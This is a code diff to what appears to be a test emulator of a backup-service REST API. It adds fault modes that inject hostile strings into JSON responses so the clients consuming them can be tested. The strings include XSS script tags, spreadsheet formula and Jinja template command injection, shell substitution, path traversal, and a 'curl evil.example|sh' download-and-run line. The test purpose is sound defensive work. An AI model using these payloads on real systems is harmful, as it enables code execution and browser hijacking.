@@ -77,7 +77,60 @@ FAULT_DEFAULTS = {
     'append_per_page': 0,           # each LogItems page of a running session adds N new items
     'token_rate_limit': True,       # 1 login a second and 5 a minute, as the real /token
     'outdate_change_tokens': 0,     # the next N change-feed requests with a token answer OutdatedChangeToken
+    # A hostile or broken server: data that must stay data (see hostile_text and docs/emulator.md).
+    'hostile_text': None,           # a marker path: every name, details, message and title carries hostile_text()
+    'hostile_ids': False,           # session objects carry a hostile text instead of their UUID id
+    'hostile_usn': False,           # log items carry HTML instead of their usn number
 }
+
+# Text keys the server fills from what tenants and admins typed (names, texts, messages).
+HOSTILE_TEXT_KEYS = ('name', 'description', 'details', 'message', 'title', 'displayName', 'officeName')
+
+
+def hostile_text(marker):
+    """A text that is harmless only if every consumer treats it as data.
+
+    It starts a spreadsheet formula, carries Jinja that would create ``marker`` if templated, HTML that
+    would run a script, Markdown table, heading and link syntax, a bare carriage return, a shell
+    command and a lone surrogate (valid JSON, not encodable as UTF-8).
+    """
+    return ('=HYPERLINK("https://evil.example/x","open")|{{ lookup(\'pipe\', \'touch %s\') }}{# hostile #}'
+            '<img src=x onerror="document.title=\'pwned\'"><script>document.title=\'pwned\'</script>'
+            ' | cell\r# Injected heading\n[click](https://evil.example) $(touch %s) \ud800 ' % (marker, marker))
+
+
+def hostile_id(marker):
+    return "../{{ lookup('pipe', 'touch %s') }};curl${IFS}-s${IFS}evil.example|sh <img src=x>" % marker
+
+
+def make_hostile(body, faults):
+    """The body with the hostile faults applied to every object in it (a copy; the world is unchanged)."""
+    marker = faults.get('hostile_text')
+    if isinstance(body, list):
+        return [make_hostile(item, faults) for item in body]
+    if not isinstance(body, dict):
+        return body
+    changed = {}
+    for key, value in body.items():
+        if isinstance(value, (dict, list)):
+            value = make_hostile(value, faults)
+        elif marker and key in HOSTILE_TEXT_KEYS and isinstance(value, str):
+            if key == 'title' and value.startswith('['):
+                status, _sep, rest = value.partition('] ')
+                value = '%s] %s%s' % (status, hostile_text(marker), rest)
+            else:
+                value = hostile_text(marker) + value
+        changed[key] = value
+    if faults.get('hostile_ids') and 'retryCount' in changed and 'id' in changed:
+        changed['id'] = hostile_id(marker or '/tmp/vb365-hostile-id')
+    if faults.get('hostile_usn') and 'usn' in changed:
+        changed['usn'] = '<img src=x onerror="document.title=\'pwned\'">%s' % changed['usn']
+    return changed
+
+
+def is_hostile(faults):
+    return bool(faults.get('hostile_text') or faults.get('hostile_ids') or faults.get('hostile_usn'))
+
 
 # How many session changes the feeds keep; an older change token is outdated.
 CHANGES_KEPT = 1000
@@ -91,7 +144,8 @@ TICKS_PER_SECOND = 10000000
 
 
 def encode_json(body):
-    return json.dumps(body, ensure_ascii=False).encode('utf-8')
+    # A lone surrogate (hostile_text) cannot be UTF-8: written as its JSON escape, as real servers do.
+    return json.dumps(body, ensure_ascii=False).encode('utf-8', 'backslashreplace')
 
 
 def fmt_ticks(ticks):
@@ -525,6 +579,8 @@ class Handler(BaseHTTPRequestHandler):
 
     def send_body(self, status, body=None, headers=None, raw=None, content_type='application/json; charset=utf-8'):
         # Real servers send UTF-8 as it is (names with umlauts), not \u escapes.
+        if body is not None and raw is None and is_hostile(self.emulator.faults) and not self.path.startswith('/_emulator'):
+            body = make_hostile(body, self.emulator.faults)
         payload = raw if raw is not None else (b'' if body is None else encode_json(body))
         self.send_response(status)
         for name, value in (headers or {}).items():
@@ -826,14 +882,15 @@ class Handler(BaseHTTPRequestHandler):
         else:
             chosen = range(offset, end)
         cache_key = (session.id, version, offset, limit, descending, wanted_type)
-        payload = None if session.running else emulator.page_cache.get(cache_key)
+        cacheable = not session.running and not is_hostile(emulator.faults)
+        payload = emulator.page_cache.get(cache_key) if cacheable else None
         if payload is None:
             results = [session.item(index, version) for index in chosen]
             base = '/%s/JobSessions/%s/LogItems' % (version, session.id)
             body = {'offset': offset, 'limit': limit, 'results': results,
                     '_links': self.page_links(version, base, offset, limit, len(results), total)}
-            payload = encode_json(body)
-            if not session.running:
+            payload = encode_json(make_hostile(body, emulator.faults) if is_hostile(emulator.faults) else body)
+            if cacheable:
                 emulator.page_cache.put(cache_key, payload)
         if emulator.take_fault('close_mid_body'):
             self.send_response(200)
